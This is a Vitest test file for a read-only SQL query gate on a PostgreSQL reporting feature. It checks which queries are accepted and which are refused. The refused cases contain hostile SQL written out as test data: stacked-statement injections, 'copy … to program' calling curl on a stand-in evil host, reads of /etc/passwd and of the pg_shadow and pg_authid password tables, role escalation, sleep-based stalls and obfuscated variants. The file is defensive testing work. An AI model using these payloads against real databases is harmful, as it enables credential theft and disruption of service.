import { expect, test } from 'vitest';
import { refusal, views } from '../../../testing/sql-gate.ts';
import { checkQuery } from './gate.ts';

test.each([
  'select 1',
  'SELECT * FROM magic_orders;',
  'select * from reporting.magic_orders as o where o.created_at > now() - interval $$30 days$$',
  "select date_trunc('day', created_at at time zone 'Asia/Kolkata')::date as day, count(*) from magic_orders group by 1",
  'with recursive n as (select 1 as i union all select i + 1 from n where i < 5) select * from n',
  'select vendor_name, rank() over (partition by order_status order by sum(total_price) desc) from magic_orders group by 1, order_status',
  'select v.vendor_name, x.n from vendors v cross join lateral (select count(*) as n from magic_orders o where o.vendor_name = v.vendor_name) x',
  'values (1), (2)',
  'table vendors',
  'explain (analyze, buffers, format json) select 1',
  'show timezone',
  '/* nothing; drop table vendors */ select 1 -- ; delete',
  "select 'it''s; drop table vendors', U&'\\0041'",
  "select coalesce(nullif(trim(both ' ' from vendor_name), ''), '-') from vendors",
  'select (array_agg(vendor_name))[1], extract(year from max(created_at)) from vendors',
  'select (o).* from magic_orders o',
  'select case when count(*) filter (where total_price > 1e3) > 0 then true end from magic_orders',
  'select percentile_cont(0.5) within group (order by total_price) from magic_orders',
  'select * from generate_series(1, 3) with ordinality',
  // Just a text: a backslash escapes nothing in it.
  "select '\\'' || pg_sleep(60) --'",
  'select current_date, current_timestamp, vendor_name ilike any (array[$$a%$$]) from vendors',
])('accepts: %s', (query) => expect(refusal(query)).toBeNull());

const reading = /^Only read-only queries are allowed/;
const one = /^Run one statement at a time/;
const notHere = /is not available here/;

// Proves (SQL analytics): Read-only: one statement, nothing that writes, waits, locks, reads files or runs text
test.each([
  // More than one statement, or none.
  ['select 1; select 2', one],
  ['select 1;; drop table vendors', one],
  ["select ''; commit; delete from vendors --'", one],
  ['select 1 /* ; */ ; truncate vendors', one],
  ['', /Please enter a SQL query/],
  ['-- only a comment', /Please enter a SQL query/],
  // A NUL would end the text for PostgreSQL.
  ['select 1 \0; drop table vendors', /character that cannot be read/],
  // Writing, in any position.
  ['insert into vendors default values', reading],
  ['update vendors set email = null', reading],
  ['delete from vendors', reading],
  ['truncate vendors', reading],
  ['drop table vendors', reading],
  ['create table x as select 1', reading],
  ['create temp table x (a int)', reading],
  ['select * into x from vendors', reading],
  ['merge into vendors using vendors v on true when matched then delete', reading],
  ['with gone as (delete from vendors returning *) select * from gone', reading],
  ['with a as (with b as (update vendors set email = null returning 1) select * from b) select * from a', reading],
  ['explain analyze delete from vendors', reading],
  ['explain analyze create table x as select 1', reading],
  ['explain execute x', reading],
  ['select * from vendors for update', /Rows cannot be locked/],
  ['with v as (select * from vendors for key share) select * from v', /Rows cannot be locked/],
  // Everything that is not a query.
  ['do $$ begin perform pg_sleep(60); end $$', reading],
  ["copy vendors to program 'curl evil.example'", reading],
  ["copy (select 1) to '/tmp/x'", reading],
  ['copy vendors from stdin', reading],
  ['call x()', reading],
  ['set role sm_staff', reading],
  ['set session authorization postgres', reading],
  ['reset all', reading],
  ['begin', reading],
  ['listen x', reading],
  ['notify x', reading],
  ['prepare x as select 1', reading],
  ['execute x', reading],
  ['declare c cursor for select 1', reading],
  ['lock table vendors', reading],
  ['vacuum', reading],
  ['load $$x$$', reading],
  ['grant all on vendors to public', reading],
  ['alter system set x = 1', reading],
  ['create extension dblink', reading],
  ['show all', /setting all cannot be shown/],
  ['show data_directory', /setting data_directory cannot be shown/],
  ['explain (settings) select 1', /EXPLAIN SETTINGS/],
  // Functions that run text, read files and settings, wait, lock or write.
  ["select set_config('role', 'postgres', false)", notHere],
  ["select pg_catalog.set_config('role', 'postgres', false)", notHere],
  ["select current_setting('data_directory')", notHere],
  ["select pg_read_file('/etc/passwd')", notHere],
  ["select * from pg_read_binary_file('/etc/passwd')", notHere],
  ["select pg_ls_dir('.')", notHere],
  ['select pg_sleep(60)', notHere],
  ['select 1 from vendors order by pg_sleep(60)', notHere],
  ['select count(*) filter (where pg_sleep(1) is null) from vendors', notHere],
  ["select * from vendors where exists (select pg_sleep_for('1 minute'))", notHere],
  ["select lo_import('/etc/passwd')", notHere],
  ["select lo_from_bytea(0, 'x')", notHere],
  ['select lo_get(1)', notHere],
  ['select pg_advisory_lock(1)', notHere],
  ['select pg_try_advisory_xact_lock(1)', notHere],
  ["select query_to_xml('select * from pg_shadow', true, true, '')", notHere],
  ["select * from query_to_xmlschema('select 1', true, true, '')", notHere],
  ["select database_to_xml(true, true, '')", notHere],
  ["select table_to_xml('pg_shadow', true, true, '')", notHere],
  ["select * from ts_stat('select 1')", notHere],
  ["select * from dblink('dbname=postgres', 'select 1') as t(a int)", notHere],
  ["select nextval('x')", notHere],
  ['select pg_terminate_backend(1)', notHere],
  ["select pg_notify('a', 'b')", notHere],
  ["select has_table_privilege('app.users', 'select')", notHere],
  ["select pg_get_viewdef('reporting.vendors')", notHere],
  ["select repeat('x', 1000000000)", notHere],
  ["select lpad('x', 1000000000)", notHere],
  ["select format('%1000000000s', 1)", notHere],
  ['select app.lower($$a$$)', notHere],
  ['select public.count(*) from vendors', notHere],
  ['select app.enqueue_job($$tidy$$, null)', notHere],
  ['select public.similarity($$a$$, $$b$$)', notHere],
  ['select (1::float8).pg_sleep', /Fields of a value/],
  ["select xmlparse(document '<a/>')", notHere],
  ["select * from xmltable('/a' passing '<a/>' columns x text)", notHere],
  ['select 1 operator(public.%) 2', notHere],
  ['select 1 operator(public.=) any (select 1)', notHere],
  ['select 1 from vendors order by id using operator(public.<)', notHere],
  // The same, obfuscated.
  ['select U&"pg\\005fsleep"(60)', notHere],
  ['select "pg_sleep"(60)', notHere],
  ['select/**/pg_sleep/**/(60)', notHere],
  ['SELECT PG_SLEEP(60)', notHere],
  ['select pg_catalog . pg_sleep ( 60 )', notHere],
  ['select ｐｇ_sleep(60)', notHere],
  ["select E'\\'' || pg_sleep(60)::text || ''", notHere],
  // Tables not meant for reports.
  ['select * from app.users', notHere],
  ['select * from users', notHere],
  ['select rolpassword from pg_authid', notHere],
  ['select * from pg_catalog.pg_shadow', notHere],
  ['select * from information_schema.tables', notHere],
  ['select * from pg_stat_activity', notHere],
  ['select * from public.vendors', notHere],
  ['select * from other.reporting.vendors', notHere],
  ['select * from vendors, lateral (select * from pg_shadow) s', notHere],
  ['select (select count(*) from pg_roles)', notHere],
  ['with pg_shadow as (select 1) select * from pg_shadow', /Choose a name other than/],
  ['select * from pg_user, (with pg_user as (select 1 as a) select * from pg_user) x', /Choose a name other than/],
  ["select 'pg_shadow'::regclass", notHere],
  ["select cast('x' as app.users)", notHere],
  ['select * from vendors tablesample system (1)', notHere],
])('refuses: %s', (query, why) => expect(refusal(query)).toMatch(why));

test.each([
  ['plus', `select 1${'+1'.repeat(9000)}`],
  ['not', `select ${'not '.repeat(4900)} true`],
  ['case', `select ${'case when true then '.repeat(900)} 1 ${' end'.repeat(900)}`],
])('refuses endless nesting (%s), and keeps working', (_kind, query) => {
  expect(refusal(query)).toMatch(/nested too deeply|stack depth/);
  expect(refusal('select 1')).toBeNull();
});

test('reports the position of a mistake', () => {
  try {
    checkQuery('select *\n  form vendors', views);
    expect.unreachable();
  } catch (error) {
    expect(error).toMatchObject({ message: 'syntax error at or near "form"', details: 'Line 2, column 3' });
  }
});

test.each([
  ['select 1', 'select 1'],
  ['table vendors;', 'table vendors;'],
  ['explain select 1', 'select 1'],
  ['explain (analyze, format json) select (1)', 'select (1)'],
  ['explain analyze verbose (select 1)', '(select 1)'],
  [
    "/* ₹ select 2 */ explain -- select\n with a as (select 1 as x) select a.x, '₹' from a",
    "with a as (select 1 as x) select a.x, '₹' from a",
  ],
  ['explain values (1), (2)', 'values (1), (2)'],
  ['show timezone', null],
])('returns the text for PostgreSQL to plan: %s', (query, selected) => expect(checkQuery(query, views)).toBe(selected));
